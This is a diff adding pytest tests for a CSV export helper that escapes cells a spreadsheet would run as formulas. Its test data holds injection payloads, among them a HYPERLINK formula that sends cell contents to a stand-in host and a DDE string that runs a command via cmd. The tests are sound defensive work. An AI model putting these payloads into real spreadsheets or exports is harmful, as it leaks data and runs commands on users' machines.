@@ -16,7 +16,7 @@ from mcp.types import Tool
 from fraction_mcp.cli import main
 from fraction_mcp.cli.call import _order_line, _typed, _value
 from fraction_mcp.cli.exits import code_of_result
-from fraction_mcp.cli.tables import print_table
+from fraction_mcp.cli.tables import as_csv_text, print_table
 from fraction_mcp.errors import ConfigError
 from fraction_mcp.tools.arguments import read_arguments
 from fraction_mcp.tools.catalogue import catalogue
@@ -175,6 +175,25 @@ def test_csv_of_a_result_without_rows_is_its_list(capsys: pytest.CaptureFixture[
     assert code == 0
     (row,) = csv.DictReader(io.StringIO(out))
     assert (row["part_number"], row["quantity"], row["line_total"]) == ("WIDGET-001", "250", "2500.00")
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ['=HYPERLINK("http://x.example?"&A1)', "+44 20 7946 0000", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\n=1", " =1",
+     "\uff1d1+1"],
+)  # fmt: skip
+def test_a_cell_that_a_spreadsheet_would_carry_out_is_made_text(cell: str) -> None:
+    """Anybody may have typed it into an ERP."""
+    assert list(csv.reader(io.StringIO(as_csv_text([["id", cell]]), newline=""))) == [["id", "'" + cell]]
+
+
+def test_no_line_end_in_a_cell_begins_a_row_of_its_own() -> None:
+    assert as_csv_text([["id", "x\r=1"], ["id", "x\r\n=1"]]) == 'id,"x\n=1"\n' * 2
+
+
+@pytest.mark.parametrize("cell", ["-2.5", "-0.00", "250", "+5", "1e3", "a=b", "x+y", "'=1", "", None, -3])
+def test_a_cell_that_is_no_formula_is_as_it_was(cell: object) -> None:
+    assert as_csv_text([["id", cell]]) == f"id,{'' if cell is None else cell}\n"
 
 
 @pytest.mark.parametrize("width", [20, 40, 80, 200])
